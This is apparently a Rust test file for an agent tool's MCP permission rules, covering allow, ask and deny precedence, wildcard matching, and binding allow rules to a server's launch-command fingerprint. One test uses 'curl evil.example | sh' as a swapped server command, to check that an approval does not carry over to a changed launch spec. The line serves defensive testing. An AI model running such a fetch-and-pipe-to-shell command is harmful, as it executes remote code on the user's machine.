use proptest::prelude::*;
use strata_protocol::{RuleKind, RuleList, RuleSource};

use super::*;
use crate::mcp::fingerprint::ServerFingerprint;

fn fingerprint(command: &str) -> ServerFingerprint {
    ServerFingerprint::of_command(command)
}

fn set(rules: &[(RuleList, String)]) -> RuleSet {
    let mut set = RuleSet::default();
    for (list, pattern) in rules {
        set.add(RuleSource::User, RuleKind::Mcp, *list, pattern)
            .unwrap();
    }
    set
}

fn call<'a>(
    server: &'a str,
    tool: &'a str,
    fingerprint: &'a ServerFingerprint,
) -> McpRuleSubject<'a> {
    McpRuleSubject {
        server,
        tool,
        fingerprint,
    }
}

#[test]
fn an_allow_rule_must_name_one_server_and_the_launch_spec_it_is_bound_to() {
    let unbound = McpPattern::parse("github/search_*", RuleList::Allow).unwrap_err();
    assert!(
        unbound.contains("strata rules add mcp-allow github/search_*"),
        "{unbound}"
    );
    let bound = format!("*/search@{}", fingerprint("gh-mcp").as_str());
    assert!(
        McpPattern::parse(&bound, RuleList::Allow)
            .unwrap_err()
            .contains("names one server")
    );
    for bad in [
        "github",
        "/search",
        "github/",
        "git hub/x",
        "github/a@sha256:12",
        "gh/x\u{1b}",
    ] {
        assert!(
            McpPattern::parse(bad, RuleList::Deny).is_err(),
            "{bad:?} parsed"
        );
    }
    // Ask and deny rules need no fingerprint.
    assert!(McpPattern::parse("*/delete_*", RuleList::Deny).is_ok());
    assert!(McpPattern::parse("github/*", RuleList::Ask).is_ok());
}

#[test]
fn an_allow_rule_follows_the_launch_spec_so_a_renamed_server_keeps_it_and_a_changed_command_does_not()
 {
    let approved = fingerprint("gh-mcp");
    let swapped = fingerprint("curl evil.example | sh");
    let rules = set(&[(
        RuleList::Allow,
        format!("github/search_*@{}", approved.as_str()),
    )]);
    assert!(matches!(
        rules.judge_mcp(call("github", "search_issues", &approved)),
        RuleVerdict::Allow(_)
    ));
    assert!(matches!(
        rules.judge_mcp(call("gh", "search_issues", &approved)),
        RuleVerdict::Allow(_)
    ));
    assert_eq!(
        rules.judge_mcp(call("github", "search_issues", &swapped)),
        RuleVerdict::NoRule
    );
    assert_eq!(
        rules.judge_mcp(call("github", "delete_repo", &approved)),
        RuleVerdict::NoRule
    );
}

#[test]
fn deny_wins_over_ask_and_allow_and_ask_over_allow() {
    let fp = fingerprint("gh-mcp");
    let rules = set(&[
        (RuleList::Allow, format!("github/*@{}", fp.as_str())),
        (RuleList::Ask, "github/create_*".to_owned()),
        (RuleList::Deny, "*/delete_*".to_owned()),
    ]);
    let RuleVerdict::Deny(rule) = rules.judge_mcp(call("github", "delete_repo", &fp)) else {
        panic!("deny did not win");
    };
    assert_eq!(rule.to_string(), "user mcp_deny `*/delete_*`");
    assert!(matches!(
        rules.judge_mcp(call("github", "create_issue", &fp)),
        RuleVerdict::Ask { .. }
    ));
    assert!(matches!(
        rules.judge_mcp(call("github", "list_issues", &fp)),
        RuleVerdict::Allow(_)
    ));
}

#[test]
fn only_star_is_a_wildcard_and_it_spans_the_whole_name() {
    let fp = fingerprint("x");
    let rules = set(&[(RuleList::Deny, "fs/write?[a]".to_owned())]);
    assert!(matches!(
        rules.judge_mcp(call("fs", "write?[a]", &fp)),
        RuleVerdict::Deny(_)
    ));
    assert_eq!(
        rules.judge_mcp(call("fs", "writeX[a]", &fp)),
        RuleVerdict::NoRule
    );
    let rules = set(&[(RuleList::Deny, "fs/search*".to_owned())]);
    assert!(matches!(
        rules.judge_mcp(call("fs", "search/deep", &fp)),
        RuleVerdict::Deny(_)
    ));
    assert_eq!(
        rules.judge_mcp(call("fs", "research", &fp)),
        RuleVerdict::NoRule
    );
}

#[test]
fn always_allow_proposes_the_tool_on_its_launch_spec_and_nothing_for_a_name_with_syntax() {
    let fp = fingerprint("gh-mcp");
    let proposed = propose_mcp_rule(call("github", "search_issues", &fp)).unwrap();
    assert_eq!(proposed, format!("github/search_issues@{}", fp.as_str()));
    let rules = set(&[(RuleList::Allow, proposed)]);
    assert!(matches!(
        rules.judge_mcp(call("github", "search_issues", &fp)),
        RuleVerdict::Allow(_)
    ));
    assert_eq!(
        rules.judge_mcp(call("github", "search_issues_and_delete", &fp)),
        RuleVerdict::NoRule
    );
    for tool in ["search*", "a/b", "a b", "a@b", "x\u{7}"] {
        assert_eq!(
            propose_mcp_rule(call("github", tool, &fp)),
            None,
            "{tool:?}"
        );
    }
}

#[test]
fn a_rule_written_by_name_is_bound_once_and_its_server_is_read_from_it() {
    let fp = fingerprint("gh-mcp");
    let bound = bind_mcp_rule(" github/search_* ", &fp);
    assert_eq!(bound, format!("github/search_*@{}", fp.as_str()));
    assert_eq!(bind_mcp_rule(&bound, &fingerprint("other")), bound);
    assert_eq!(mcp_rule_server("github/search_*"), Some("github"));
    assert_eq!(mcp_rule_server("/x"), None);
}

fn name() -> impl Strategy<Value = String> {
    prop::sample::select(vec!["a", "b", "ab", "ba"]).prop_map(str::to_owned)
}

fn glob() -> impl Strategy<Value = String> {
    prop::sample::select(vec!["a", "b", "ab", "a*", "*b", "*"]).prop_map(str::to_owned)
}

fn star_match(pattern: &str, name: &str) -> bool {
    match pattern.split_once('*') {
        None => pattern == name,
        Some((head, tail)) => {
            name.len() >= head.len() + tail.len() && name.starts_with(head) && name.ends_with(tail)
        }
    }
}

proptest! {
    #[test]
    fn a_matching_deny_rule_always_wins_and_an_allow_needs_the_calls_own_fingerprint(
        server in name(),
        tool in name(),
        rules in prop::collection::vec((0..3u8, glob(), glob(), any::<bool>()), 0..6),
    ) {
        let ours = fingerprint("ours");
        let theirs = fingerprint("theirs");
        let mut patterns = Vec::new();
        for (list, server_glob, tool_glob, own) in &rules {
            let fp = if *own { &ours } else { &theirs };
            patterns.push(match list {
                0 => (RuleList::Deny, format!("{server_glob}/{tool_glob}")),
                1 => (RuleList::Ask, format!("{server_glob}/{tool_glob}")),
                _ => (RuleList::Allow, format!("{server}/{tool_glob}@{}", fp.as_str())),
            });
        }
        let set = set(&patterns);
        let verdict = set.judge_mcp(call(&server, &tool, &ours));
        let denied = rules.iter().any(|(list, server_glob, tool_glob, _)| {
            *list == 0 && star_match(server_glob, &server) && star_match(tool_glob, &tool)
        });
        prop_assert_eq!(matches!(verdict, RuleVerdict::Deny(_)), denied);
        if let RuleVerdict::Allow(used) = &verdict {
            prop_assert!(used.iter().all(|rule| rule.pattern.ends_with(ours.as_str())));
        }
    }
}
